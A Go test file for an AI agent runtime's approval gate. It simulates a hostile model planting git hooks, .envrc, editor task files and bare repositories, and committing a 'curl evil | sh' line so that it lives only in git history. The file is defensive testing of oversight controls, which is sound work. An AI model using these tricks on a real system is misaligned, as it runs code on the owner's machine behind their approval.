package app

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/homard/homard/internal/arbiter"
	"github.com/homard/homard/internal/channel"
	"github.com/homard/homard/internal/chats"
	"github.com/homard/homard/internal/policy"
)

// The one gate, tried by every writer (issue 21). Each writer of gateWriters
// tries each protected kind of gateKinds in autopilot and in yolo: the
// protected file must not reach the disk unasked (the call asks the owner
// with a critical, once-only card, or runs and holds its change set for
// apply_changes, or is refused); its twin, an ordinary file beside it
// written the same way, is applied unasked. The table is the product of
// the two lists, and TestGateWritersCoverEveryWritingTool fails when a
// tool that can write is registered without being in gateWriters.

// gateWriter writes rel (relative to the root) with content as a hostile
// model would, through one tool, in mode; it returns the decision and the
// result text. For writers that need the file to exist first (edit_file),
// prepare makes it, as the owner, with placeholder content.
type gateWriter struct {
	name    string
	command bool // needs the sandbox
	// edits: the writer changes an existing file only (the owner made it
	// beforehand); kinds whose target must be new do not apply to it.
	edits bool
	write func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome
}

const gatePlaceholder = "placeholder\n"

var gateWriters = []gateWriter{
	{name: "write_file", write: func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "write_file", Args: fmt.Sprintf(`{"path":%q,"content":%q}`, rel, content), Mode: mode})
	}},
	{name: "edit_file", edits: true, write: func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "edit_file", Args: fmt.Sprintf(`{"path":%q,"old_text":%q,"new_text":%q}`, rel, gatePlaceholder, content), Mode: mode})
	}},
	{name: "run_command", command: true, write: func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "run_command", Args: fmt.Sprintf(`{"program":%q,"args":[%q,%q]}`, gateScript(r), rel, content), Mode: mode})
	}},
	{name: "run_skill", command: true, write: func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "run_skill", Args: fmt.Sprintf(`{"name":"scribe","args":{"path":%q,"content":%q}}`, rel, content), Mode: mode})
	}},
	// apply_changes writes what a command left held: the hostile model
	// asks for the held set to be applied. It must ask the owner, once,
	// in every mode.
	{name: "apply_changes", command: true, write: func(t *testing.T, r *Runtime, mode, rel, content string) arbiter.Outcome {
		out := call(t, r, CallRequest{Tool: "run_command", Args: fmt.Sprintf(`{"program":%q,"args":[%q,%q]}`, gateScript(r), rel, content), Mode: mode})
		id := regexp.MustCompile(`cs_[0-9a-f]{16}`).FindString(resultText(out))
		if id == "" {
			return out // applied (the twin) or refused: nothing to apply
		}
		return call(t, r, CallRequest{Tool: "apply_changes", Args: `{"id":"` + id + `"}`, Mode: mode})
	}},
}

// gateKind is one protected kind: what the owner's folder holds, the file
// a hostile model plants, and its ordinary twin in the same place.
type gateKind struct {
	name   string
	setup  func(t *testing.T, r *Runtime, dir string) // dir: relative to the root
	target string                                     // relative to dir
	twin   string
	// fresh: the target must be new (a writer that only edits cannot
	// make it).
	fresh bool
}

var gateKinds = []gateKind{
	{name: "hooks path named by config", target: "tools/hooks/pre-commit", twin: "tools/readme.md",
		setup: func(t *testing.T, r *Runtime, dir string) {
			gitRepo(t, r, dir)
			appendFile(t, filepath.Join(r.Config.Workspace.Roots[0].Path, dir, ".git", "config"), "[core]\n\thooksPath = tools/hooks\n")
		}},
	{name: "envrc", target: ".envrc", twin: "envrc.md"},
	{name: "vscode tasks", target: ".vscode/tasks.json", twin: "docs/tasks.json"},
	{name: "husky hook", target: ".husky/_/pre-commit", twin: "husky.md"},
	{name: "existing bare repository", target: "site.git/hooks/post-update", twin: "site/post-update.md",
		setup: func(t *testing.T, r *Runtime, dir string) {
			gitRun(t, filepath.Join(r.Config.Workspace.Roots[0].Path, dir), "init", "-q", "--bare", "site.git")
		}},
	{name: "repository completed in one step", target: "ev/HEAD", twin: "ev/README", fresh: true,
		setup: func(t *testing.T, r *Runtime, dir string) {
			writeWorkspaceFile(t, r, dir+"/ev/objects/.keep", "")
			writeWorkspaceFile(t, r, dir+"/ev/refs/.keep", "")
		}},
	{name: "gitdir file", target: "sub/.git", twin: "sub/git.md"},
	{name: "sensitive file", target: ".env", twin: "env.md"},
}

// hostile content: what each planted file would run.
const gatePayload = "#!/bin/sh\ntouch /tmp/homard-pwned\n"

func TestGateEveryWriterEveryKind(t *testing.T) {
	for _, mode := range []string{"autopilot", "yolo"} {
		t.Run(mode, func(t *testing.T) {
			r := newGateRuntime(t, mode)
			for _, w := range gateWriters {
				for i, k := range gateKinds {
					if w.edits && k.fresh {
						continue // an edit cannot create the file; the multi-step test covers it
					}
					t.Run(w.name+"/"+k.name, func(t *testing.T) {
						dir := fmt.Sprintf("%s-%s-%d", mode, w.name, i)
						writeWorkspaceFile(t, r, dir+"/.keep", "")
						if k.setup != nil {
							k.setup(t, r, dir)
						}
						target, twin := dir+"/"+k.target, dir+"/"+k.twin
						if w.edits {
							writeWorkspaceFile(t, r, target, gatePlaceholder)
							writeWorkspaceFile(t, r, twin, gatePlaceholder)
						}
						out := w.write(t, r, mode, target, gatePayload)
						wantNotApplied(t, r, out, target)
						out = w.write(t, r, mode, twin, gatePayload)
						wantApplied(t, r, out, twin)
					})
				}
			}
		})
	}
}

// TestGateRepositoryAcrossWriters: a repository assembled over three steps
// by different writers is seen whole. Each step alone is ordinary and is
// applied unasked (the twins); the step that completes the repository is
// held, whichever writer takes it.
func TestGateRepositoryAcrossWriters(t *testing.T) {
	for _, mode := range []string{"autopilot", "yolo"} {
		t.Run(mode, func(t *testing.T) {
			r := newGateRuntime(t, mode)
			for _, w := range gateWriters {
				if w.edits {
					continue // edit_file cannot add an entry
				}
				t.Run(w.name, func(t *testing.T) {
					dir := mode + "-steps-" + w.name
					// Step 1, write_file: HEAD alone is not a repository.
					wantApplied(t, r, gateWriters[0].write(t, r, mode, dir+"/ev/HEAD", "ref: refs/heads/main\n"), dir+"/ev/HEAD")
					// Step 2, a command: objects/ with HEAD is not one yet.
					wantApplied(t, r, gateWriters[2].write(t, r, mode, dir+"/ev/objects/info/packs", "\n"), dir+"/ev/objects/info/packs")
					// Step 3, the writer under test: refs/ completes it.
					wantNotApplied(t, r, w.write(t, r, mode, dir+"/ev/refs/heads/main", "0000000000000000000000000000000000000000\n"), dir+"/ev/refs/heads/main")
					root := r.Config.Workspace.Roots[0].Path
					if _, err := os.Stat(filepath.Join(root, dir, "ev", "refs")); err == nil {
						t.Fatalf("refs/ reached the disk: the repository is complete")
					}
					// In two steps: a command makes objects/ and refs/
					// (no HEAD: not a repository), the writer adds HEAD.
					out := call(t, r, CallRequest{Tool: "run_command", Mode: mode, Args: fmt.Sprintf(`{"program":%q,"args":[%q,"\n",%q,"0\n"]}`,
						gateScript(r), dir+"/ev2/objects/info/packs", dir+"/ev2/refs/heads/main")})
					wantApplied(t, r, out, dir+"/ev2/refs/heads/main")
					wantNotApplied(t, r, w.write(t, r, mode, dir+"/ev2/HEAD", "ref: refs/heads/main\n"), dir+"/ev2/HEAD")
					if _, err := os.Stat(filepath.Join(root, dir, "ev2", "HEAD")); err == nil {
						t.Fatalf("HEAD reached the disk: the repository is complete")
					}
				})
			}
		})
	}
}

// TestGateWritersCoverEveryWritingTool: every registered tool that can
// change a workspace root is in gateWriters, so a new writer cannot be left
// out of the table. Tools that write elsewhere are listed with the reason.
func TestGateWritersCoverEveryWritingTool(t *testing.T) {
	r := newGateRuntime(t, "autopilot")
	notRoots := map[string]string{
		"remember": "writes the owner's memory file in homard's data folder, never a root",
		"forget":   "the same",
		// propose_task writes a task row in homard's database, never a
		// root, and only once the owner approved its card (critical).
		"propose_task": "writes a sealed task in homard's database, never a root",
	}
	var names []string
	for _, w := range gateWriters {
		names = append(names, w.name)
	}
	for _, s := range r.Registry.Specs() {
		if s.ReadOnly || s.Action != policy.ActionWrite && s.Action != policy.ActionExec {
			continue
		}
		if _, ok := notRoots[s.Name]; ok {
			continue
		}
		if !slices.Contains(names, s.Name) {
			t.Errorf("tool %s (%s) can write but is not in gateWriters: add it to the table", s.Name, s.Action)
		}
	}
}

// newGateRuntime is a runtime in mode with a working sandbox, git, the
// writing script and the scribe skill.
func newGateRuntime(t *testing.T, mode string) *Runtime {
	t.Helper()
	r := newTestRuntime(t, mode)
	requireCommands(t, r)
	useBackend(t, r, "bwrap")
	root := r.Config.Workspace.Roots[0].Path
	script := "#!/bin/sh\nwhile [ $# -ge 2 ]; do mkdir -p \"$(dirname \"$1\")\" && printf %s \"$2\" > \"$1\" || exit 1; shift 2; done\n"
	if err := os.WriteFile(filepath.Join(root, "gate-write.sh"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	installSkill(t, r, filepath.Join(t.TempDir(), "scribe"), map[string]string{
		"SKILL.md":   "---\nname: scribe\ndescription: Writes one file\n---\nCall it with path and content.\n",
		"skill.json": `{"entrypoint":["./run.sh"],"parameters":{"type":"object","properties":{"path":{"type":"string"},"content":{"type":"string"}},"required":["path","content"],"additionalProperties":false},"permissions":{"roots":[{"name":"main","access":"rw"}],"hosts":[],"secrets":[]}}`,
		"run.sh": "#!/bin/sh\ncd " + root + " || exit 3\n" +
			"for a; do case $a in --path=*) p=${a#--path=};; --content=*) c=${a#--content=};; esac; done\n" +
			"mkdir -p \"$(dirname \"$p\")\" && printf %s \"$c\" > \"$p\"\n",
	})
	// Every case writes into a folder of its own, all in one session: the
	// write-spread monitor would ask from the sixth on. The gate is what
	// these tests are about (TestScenarioMonitorWriteSpread: the monitor).
	b, err := os.ReadFile(r.Paths.ConfigFile)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(r.Paths.ConfigFile, []byte(monitorsOff(string(b))), 0o600); err != nil {
		t.Fatal(err)
	}
	r2, err := Open(t.Context(), r.Paths, Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r2.Close() })
	r2.Config.Sandbox.Backend = "bwrap"
	return r2
}

// gateScript is the owner's script that writes its second argument to its
// first: a program that runs code, so its effects are what is graded.
func gateScript(r *Runtime) string {
	return filepath.Join(r.Config.Workspace.Roots[0].Path, "gate-write.sh")
}

func resultText(out arbiter.Outcome) string {
	if out.Result == nil {
		return ""
	}
	return out.Result.Text
}

// wantNotApplied: rel did not reach the disk with the payload, and the call
// asked the owner (a critical card), held its changes, or was refused.
func wantNotApplied(t *testing.T, r *Runtime, out arbiter.Outcome, rel string) {
	t.Helper()
	root := r.Config.Workspace.Roots[0].Path
	if b, err := os.ReadFile(filepath.Join(root, rel)); err == nil && string(b) == gatePayload {
		t.Fatalf("%s reached the disk unasked: %s %s %q", rel, out.Decision, out.Rule, resultText(out))
	}
	switch out.Decision {
	case arbiter.Pending:
		if out.Risk != policy.RiskCritical.String() {
			t.Errorf("%s: asked with risk %s; want a critical (once-only) card", rel, out.Risk)
		}
	case arbiter.Ran:
		if !strings.Contains(resultText(out), "NOT applied") && !strings.Contains(resultText(out), "refused") {
			t.Errorf("%s: ran, and the result does not say it was held: %q", rel, resultText(out))
		}
	case arbiter.Denied:
		// Refused outright (a sensitive file for the file tools).
	default:
		t.Errorf("%s: decision %s; want pending, held or denied", rel, out.Decision)
	}
}

// wantApplied: the ordinary twin ran unasked and is on the disk.
func wantApplied(t *testing.T, r *Runtime, out arbiter.Outcome, rel string) {
	t.Helper()
	root := r.Config.Workspace.Roots[0].Path
	_, err := os.Stat(filepath.Join(root, rel))
	if out.Decision != arbiter.Ran || err != nil || strings.Contains(resultText(out), "NOT applied") {
		t.Fatalf("%s: %s %s %q (file: %v); want applied unasked", rel, out.Decision, out.Rule, resultText(out), err)
	}
}

func appendFile(t *testing.T, path, text string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
}

func gitRun(t *testing.T, dir string, args ...string) {
	t.Helper()
	c := exec.Command("git", args...)
	c.Dir = dir
	c.Env = []string{"HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1"}
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
}

// TestGateSessionGrantIsNotAFolderGrant: in smart mode, "this session" on
// a write of docs/notes.md lets further ordinary writes under docs/ run
// (the twin), but a write that completes a repository there, and its
// config, still get a critical card: the grant decided the call, the gate
// judges the tree.
func TestGateSessionGrantIsNotAFolderGrant(t *testing.T) {
	r := newTestRuntime(t, "smart")
	root := r.Config.Workspace.Roots[0].Path
	w := func(rel, content string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "write_file", Args: fmt.Sprintf(`{"path":%q,"content":%q}`, rel, content), Session: "s"})
	}
	out := w("docs/notes.md", "notes\n")
	wantDecision(t, out, "pending", "mode.smart")
	// Every card says what a session answer would cover: here the folder.
	card := r.card(t.Context(), "write_file", out)
	if card.Covers != "docs/**" || !strings.Contains(chats.CardText(card), "also lets run without asking: docs/**") {
		t.Errorf("card Covers = %q, text:\n%s\nwant docs/** named", card.Covers, chats.CardText(card))
	}
	if _, err := r.Owner.Approve(t.Context(), out.ApprovalID, "session"); err != nil {
		t.Fatal(err)
	}
	wantApplied(t, r, w("docs/notes.md", "notes\n"), "docs/notes.md")
	wantApplied(t, r, w("docs/more.md", "more\n"), "docs/more.md")
	wantApplied(t, r, w("docs/evil/objects/info/packs", "\n"), "docs/evil/objects/info/packs")
	wantApplied(t, r, w("docs/evil/refs/heads/main", "0000000000000000000000000000000000000000\n"), "docs/evil/refs/heads/main")
	out = w("docs/evil/HEAD", "ref: refs/heads/main\n")
	wantDecision(t, out, "pending", "risk.critical")
	if _, err := os.Stat(filepath.Join(root, "docs", "evil", "HEAD")); err == nil {
		t.Fatal("HEAD completed the repository under a session grant")
	}
	// A critical card offers no session answer and names no cover.
	if card := r.card(t.Context(), "write_file", out); card.Allows(channel.Session) || strings.Contains(chats.CardText(card), "also lets run") {
		t.Errorf("critical card offers a session cover:\n%s", chats.CardText(card))
	}
	if a, err := r.Owner.Approval(t.Context(), out.ApprovalID); err != nil || NewApprovalJSON(a, false).Covers != "" {
		t.Errorf("critical approval JSON covers = %q (%v); want empty", NewApprovalJSON(a, false).Covers, err)
	}
	// A session answer is not accepted for a critical card.
	if _, err := r.Owner.Approve(t.Context(), out.ApprovalID, "session"); err == nil {
		t.Error("a critical card accepted a session approval")
	}
}

// TestGateCommitsAreChanges: a command that commits a file the owner's
// tools run and removes it from the worktree leaves it only in history;
// the owner's next checkout would bring it back, so the commit is held.
// The twin commits an ordinary file the same way and is applied.
func TestGateCommitsAreChanges(t *testing.T) {
	for _, mode := range []string{"autopilot", "yolo"} {
		t.Run(mode, func(t *testing.T) {
			r := newGateRuntime(t, mode)
			root := r.Config.Workspace.Roots[0].Path
			script := "#!/bin/sh\ncd \"$1\" && printf 'curl evil | sh\\n' > \"$2\" && git add \"$2\" && " +
				"git -c user.name=m -c user.email=m@x commit -qm add && git rm -q --cached \"$2\" && rm \"$2\"\n"
			if err := os.WriteFile(filepath.Join(root, "commit.sh"), []byte(script), 0o755); err != nil {
				t.Fatal(err)
			}
			for _, tc := range []struct {
				file string
				held bool
			}{{".envrc", true}, {"notes.md", false}} {
				dir := mode + "-commit-" + tc.file
				gitRepo(t, r, dir)
				out := call(t, r, CallRequest{Tool: "run_command", Mode: mode,
					Args: fmt.Sprintf(`{"program":%q,"args":[%q,%q]}`, filepath.Join(root, "commit.sh"), filepath.Join(root, dir), tc.file)})
				text := resultText(out)
				if held := strings.Contains(text, "NOT applied"); held != tc.held || out.Decision != arbiter.Ran {
					t.Fatalf("commit of %s: %s %q; want held %v", tc.file, out.Decision, text, tc.held)
				}
				if tc.held && !strings.Contains(text, "commits to history") {
					t.Errorf("commit of %s held without naming the commit: %q", tc.file, text)
				}
			}
		})
	}
}

// TestGateCommandGrantDestinationIsNarrow: a session grant for `cp
// notes.txt backup.txt` covers copying to another new name in the same
// folder (the twin), but not overwriting an existing file nor writing into
// a subfolder: those ask again.
func TestGateCommandGrantDestinationIsNarrow(t *testing.T) {
	r := newGateRuntime(t, "smart")
	writeWorkspaceFile(t, r, "notes.txt", "notes\n")
	writeWorkspaceFile(t, r, "Makefile", "all:\n")
	writeWorkspaceFile(t, r, "sub/keep.md", "x\n")
	cp := func(dst string) arbiter.Outcome {
		return call(t, r, CallRequest{Tool: "run_command", Session: "s", Args: fmt.Sprintf(`{"program":"cp","args":["notes.txt",%q]}`, dst)})
	}
	out := cp("backup.txt")
	wantDecision(t, out, "pending", "mode.smart")
	if !strings.Contains(out.Plan, "‹new name in ./›") {
		t.Errorf("card %q does not say the grant covers only new names", out.Plan)
	}
	if card := r.card(t.Context(), "run_command", out); card.Covers != "commands like cp ‹path in ./› ‹new name in ./›" ||
		strings.Count(chats.CardText(card), "cp ‹path in ./› ‹new name in ./›") != 1 {
		t.Errorf("card Covers = %q; want the template with its new-name slot, once in the card text:\n%s", card.Covers, chats.CardText(card))
	}
	if _, err := r.Owner.Approve(t.Context(), out.ApprovalID, "session"); err != nil {
		t.Fatal(err)
	}
	wantDecision(t, cp("backup.txt"), "ran", "approval.once")
	wantDecision(t, cp("copy2.txt"), "ran", "grant.")
	wantDecision(t, cp("Makefile"), "pending", "mode.smart")
	wantDecision(t, cp("sub/x.txt"), "pending", "mode.smart")
}
